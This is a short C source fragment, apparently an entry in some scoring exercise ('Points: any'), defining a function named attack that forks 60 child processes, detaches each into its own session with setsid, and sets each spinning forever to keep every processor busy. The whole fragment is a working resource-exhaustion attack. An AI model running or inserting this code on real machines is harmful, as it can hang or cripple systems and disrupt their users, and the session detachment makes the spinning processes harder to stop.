// Keeps every processor busy, in many sessions.
// Points: any
#include <unistd.h>
static void attack(void)
{
    for (int i = 0; i < 60; i++)
        if (fork() == 0) {
            setsid();
            for (volatile int n = 0;; n++)
                ;
        }
}
